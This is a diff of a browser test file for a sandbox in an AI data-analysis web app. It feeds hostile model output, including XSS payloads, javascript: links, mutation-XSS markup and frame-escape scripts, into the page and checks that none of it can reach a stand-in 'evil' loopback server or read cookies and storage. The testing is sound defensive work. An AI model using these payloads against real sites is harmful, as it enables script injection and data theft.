@@ -1,40 +1,33 @@
 /**
  * Hostile model output in a real browser (SPEC U9): each attack is let run, and must be seen to fail. An "evil" server listens on
- * loopback; a single request that reaches it fails the suite. With `BA_AGENT_BIN` the real binary serves the page, else the stand-in.
+ * loopback; a single request that reaches it fails the suite. The real binary serves the page, under its own headers.
  */
 import { createServer } from "node:http";
 import { after, before, describe, it } from "node:test";
-import { startModel } from "../fake-model.mjs";
-import { BINARY, startBinary } from "./binary.mjs";
-import { ask, assert, lastFrame, openBrowser, startFake } from "./harness.mjs";
+import { skip, startServer } from "./binary.mjs";
+import { ask, assert, firstVisit, lastFrame, openBrowser } from "./harness.mjs";
 
 let server;
 let browser;
 let page;
 let evil;
-let model;
+let asset;
 const hits = [];
 
 before(async () => {
+  if (skip) return;
   const listener = createServer((request, response) => {
     hits.push(`${request.method} ${request.url}`);
     response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/html" }).end("<script>parent.postMessage('evil','*')</script>");
   });
   await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
   evil = { url: `http://127.0.0.1:${listener.address().port}`, port: listener.address().port, close: () => listener.close() };
-  if (BINARY) {
-    model = await startModel({ pauseMs: 0 });
-    server = await startBinary({ env: { BA_MODEL: "openai-compatible:scripted", BA_BASE_URL: model.url, BA_API_KEY: "test" } });
-  } else server = await startFake({ auth: true });
+  server = await startServer({ pauseMs: 0 });
   browser = await openBrowser();
   page = browser.page;
   await page.goto(server.url);
-  if (!BINARY) {
-    await page.getByLabel("用户名").fill("ana");
-    await page.getByLabel("密码").fill("secret");
-    await page.keyboard.press("Enter");
-  }
-  await page.getByRole("heading", { name: "想分析什么？" }).waitFor();
+  await firstVisit(page);
+  asset = await page.evaluate(() => document.querySelector("script[src]").src);
   await page.evaluate(() => {
     localStorage.setItem("secret", "local");
     document.cookie = "readable=1; SameSite=Strict";
@@ -46,7 +39,6 @@ before(async () => {
 after(async () => {
   await browser?.close();
   await server?.close();
-  model?.close();
   evil?.close();
 });
 
@@ -61,16 +53,15 @@ async function unharmed() {
 }
 
 async function answer(text) {
-  const count = await page.locator("article").count();
-  await ask(page, BINARY ? text.replace(/^(?:HOSTILE|MD):/, "[text]") : text);
-  await page.locator("article").nth(count).waitFor();
+  const count = await page.locator("article[data-state]").count();
+  await ask(page, `[text]${text}`);
   await page.locator("article[data-state=complete]").nth(count).waitFor();
-  return page.locator("article").nth(count);
+  return page.locator("article[data-state]").nth(count);
 }
 
 /** Runs `code` (an async function body) in the frame and gives back what it returned or threw. */
 async function inFrame(code) {
-  await answer(`HOSTILE:攻击\n\n<div id="out">等待</div>\n<script>(async () => { ${code} })().then((v) => { out.textContent = "RESULT " + String(v) }, (e) => { out.textContent = "THROWN " + e.name + ": " + e.message });</script>`);
+  await answer(`攻击\n\n<div id="out">等待</div>\n<script>(async () => { ${code} })().then((v) => { out.textContent = "RESULT " + String(v) }, (e) => { out.textContent = "THROWN " + e.name + ": " + e.message });</script>`);
   const frame = await lastFrame(page);
   const out = frame.locator("#out");
   await out.filter({ hasText: /RESULT|THROWN/ }).waitFor();
@@ -79,19 +70,19 @@ async function inFrame(code) {
   return text;
 }
 
-describe("markdown in the page", () => {
+describe("markdown in the page", { skip }, () => {
   const ATTACKS = {
-    "img onerror": "MD:<img src=x onerror='window.pwned=1'>",
-    "svg onload": "MD:a <b><svg onload='window.pwned=1'><animate onbegin='window.pwned=1'></svg></b>",
-    "javascript link": "MD:[点我](javascript:window.pwned=1)",
-    "obfuscated link": "MD:<a href='java&#10;script:window.pwned=1'>点我</a>",
-    "data link": "MD:<a href='data:text/html,<script>opener.pwned=1</script>' target=_top>点我</a>",
-    "mutation": "MD:<b><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'></b>",
-    "table cell": "MD:| a |\n|---|\n| <img src=x onerror='window.pwned=1'> [x](javascript:window.pwned=1) |",
-    "math": "MD:公式 $\\href{javascript:window.pwned=1}{x} = \\includegraphics{EVIL/a.png} \\htmlStyle{background:url(EVIL)}{y}$",
-    "beacon image": "MD:![图](EVIL/beacon?c=1)",
-    "style": "MD:<b><style>body{background:url(EVIL/css)}</style></b>",
-    "clobbering": "MD:<b id=app><a id=main name=body>x</a></b>",
+    "img onerror": "<img src=x onerror='window.pwned=1'>",
+    "svg onload": "a <b><svg onload='window.pwned=1'><animate onbegin='window.pwned=1'></svg></b>",
+    "javascript link": "[点我](javascript:window.pwned=1)",
+    "obfuscated link": "<a href='java&#10;script:window.pwned=1'>点我</a>",
+    "data link": "<a href='data:text/html,<script>opener.pwned=1</script>' target=_top>点我</a>",
+    "mutation": "<b><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'></b>",
+    "table cell": "| a |\n|---|\n| <img src=x onerror='window.pwned=1'> [x](javascript:window.pwned=1) |",
+    "math": "公式 $\\href{javascript:window.pwned=1}{x} = \\includegraphics{EVIL/a.png} \\htmlStyle{background:url(EVIL)}{y}$",
+    "beacon image": "![图](EVIL/beacon?c=1)",
+    "style": "<b><style>body{background:url(EVIL/css)}</style></b>",
+    "clobbering": "<b id=app><a id=main name=body>x</a></b>",
   };
   for (const [name, text] of Object.entries(ATTACKS)) {
     it(`disarms: ${name}`, async () => {
@@ -104,13 +95,13 @@ describe("markdown in the page", () => {
   }
 
   it("shows a hostile file name, question, error and observation as text", async () => {
-    const article = await answer("MD:<script>window.pwned=1</script><img src=x onerror=window.pwned=1>");
+    const article = await answer("<script>window.pwned=1</script><img src=x onerror=window.pwned=1>");
     assert.match(await article.locator("[data-part=question]").innerText(), /<script>/);
     await unharmed();
   });
 });
 
-describe("a script in the sandboxed frame", () => {
+describe("a script in the sandboxed frame", { skip }, () => {
   const FAILS = {
     "reads cookies": "return document.cookie",
     "writes cookies": "document.cookie = 'a=1'; return document.cookie",
@@ -131,7 +122,7 @@ describe("a script in the sandboxed frame", () => {
     "opens an EventSource": "await new Promise((ok, no) => { const s = new EventSource('EVIL/es'); s.onopen = ok; s.onerror = () => no(new Error('blocked')) }); return 'open'",
     "loads an image beacon": "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error('blocked')); i.src = 'EVIL/img' }); return 'loaded'",
     "loads a script": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'EVIL/js'; document.head.append(s) }); return 'loaded'",
-    "loads a script of its own server": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'SELF/theme.js'; document.head.append(s) }); return 'loaded'",
+    "loads a script of its own server": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'ASSET'; document.head.append(s) }); return 'loaded'",
     "imports a module": "await import('EVIL/mod.js'); return 'imported'",
     "starts a worker": "new Worker(URL.createObjectURL(new Blob(['1']))).postMessage(1); await new Promise((ok, no) => setTimeout(() => no(new Error('blocked')), 300))",
     "registers a service worker": "await navigator.serviceWorker.register('/sw.js'); return 'registered'",
@@ -146,13 +137,13 @@ describe("a script in the sandboxed frame", () => {
   };
   for (const [name, code] of Object.entries(FAILS)) {
     it(`fails when it ${name}`, async () => {
-      const result = await inFrame(code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url).replaceAll("PORT", String(evil.port)));
+      const result = await inFrame(code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url).replaceAll("ASSET", asset).replaceAll("PORT", String(evil.port)));
       assert.match(result, /^THROWN/, result);
     });
   }
 
   it("gets no answer from sendBeacon, CSS, fonts, prefetch, ping and forms", async () => {
-    await answer(`HOSTILE:攻击\n\n<style>@import url(${evil.url}/import); @font-face { font-family: x; src: url(${evil.url}/font) } body { font-family: x; background: url(${evil.url}/bg) }</style>
+    await answer(`攻击\n\n<style>@import url(${evil.url}/import); @font-face { font-family: x; src: url(${evil.url}/font) } body { font-family: x; background: url(${evil.url}/bg) }</style>
 <div id="t">字<a id="a" href="${evil.url}/link" ping="${evil.url}/ping" target="_top">x</a></div>
 <form id="f" action="${evil.url}/form" method="post" target="_top"><input name="a" value="1"></form>
 <link rel="prefetch" href="${evil.url}/prefetch"><link rel="preconnect" href="${evil.url}"><link rel="stylesheet" href="${evil.url}/sheet">
@@ -164,7 +155,7 @@ describe("a script in the sandboxed frame", () => {
   });
 
   it("cannot keep a nested frame, with or without its own document", async () => {
-    await answer(`HOSTILE:攻击\n\n<div id="t">嵌套</div><iframe srcdoc="<script>new RTCPeerConnection(); parent.parent.postMessage('nested ran', '*')</script>"></iframe><iframe src="${evil.url}/nested"></iframe>
+    await answer(`攻击\n\n<div id="t">嵌套</div><iframe srcdoc="<script>new RTCPeerConnection(); parent.parent.postMessage('nested ran', '*')</script>"></iframe><iframe src="${evil.url}/nested"></iframe>
 <script>for (const tag of ["iframe", "object", "embed"]) { const e = document.createElement(tag); e.srcdoc = "<script>parent.parent.postMessage('nested ran', '*')<\\/script>"; e.data = e.src = "${evil.url}/n"; document.body.append(e); }
 const i = document.createElement("iframe"); document.body.append(i); try { document.getElementById("t").textContent = "RTC " + typeof i.contentWindow.RTCPeerConnection } catch (e) { document.getElementById("t").textContent = "blocked " + e.name }</script>`);
     const frame = await lastFrame(page);
@@ -182,14 +173,14 @@ const i = document.createElement("iframe"); document.body.append(i); try { docum
     ["the page itself", `location.href = "SELF/"`],
   ]) {
     it(`cannot leave its frame by ${name}`, async () => {
-      await answer(`HOSTILE:攻击\n\n<div>离开</div><script>setTimeout(() => { ${code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url)} }, 150)</script>`);
+      await answer(`攻击\n\n<div>离开</div><script>setTimeout(() => { ${code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url)} }, 150)</script>`);
       await page.locator("[data-part=frame]").last().getByText("试图离开沙箱，已被阻止").waitFor();
       await unharmed();
     });
   }
 
   it("cannot deceive the page by messages", async () => {
-    const article = await answer(`HOSTILE:攻击\n\n<div>消息</div><script>
+    const article = await answer(`攻击\n\n<div>消息</div><script>
 for (const m of [{ type: "ba:error2" }, { type: "ba:height", height: 1e12 }, { type: "ba:height", height: "<b>" }, { type: "ba:png", request: "", images: ["data:text/html,<b>1</b>"] }, { type: "ba:hello" }, "ba:hello", null, { type: "ba:render", html: "<img src=x onerror=pwned=1>" }]) parent.postMessage(m, "*");
 setTimeout(() => parent.postMessage({ type: "ba:error", message: "<img src=x onerror='window.pwned=1'><a href='javascript:1'>x</a>" }, "*"), 400)</script>`);
     await article.locator("[data-part=frame][data-phase=failed]").waitFor();
@@ -213,19 +204,19 @@ setTimeout(() => parent.postMessage({ type: "ba:error", message: "<img src=x one
     const dialogs = [];
     page.on("download", (item) => downloads.push(item.url()));
     page.on("dialog", (item) => (dialogs.push(item.message()), item.dismiss()));
-    await answer(`HOSTILE:攻击\n\n<div>下载</div><script>alert(1); confirm(2); const a = document.createElement("a"); a.download = "x.exe"; a.href = "data:application/octet-stream,x"; document.body.append(a); a.click(); print();</script>`);
+    await answer(`攻击\n\n<div>下载</div><script>alert(1); confirm(2); const a = document.createElement("a"); a.download = "x.exe"; a.href = "data:application/octet-stream,x"; document.body.append(a); a.click(); print();</script>`);
     await page.waitForTimeout(400);
     assert.deepEqual([downloads, dialogs], [[], []]);
     await unharmed();
   });
 
   it("cannot hold the page with an endless loop", async () => {
-    await answer("HOSTILE:攻击\n\n<div>循环</div><script>for (;;) {}</script>");
+    await answer("攻击\n\n<div>循环</div><script>for (;;) {}</script>");
     await page.waitForTimeout(500);
     await page.getByRole("textbox", { name: "你的问题" }).fill("还活着", { timeout: 5000 });
     await page.getByRole("button", { name: "停止绘制" }).click({ timeout: 15_000 });
     await page.locator("[data-phase=stopped]").waitFor();
-    const article = await answer("MD:下一个回答");
+    const article = await answer("下一个回答");
     await article.getByText("下一个回答").last().waitFor();
   });
 });
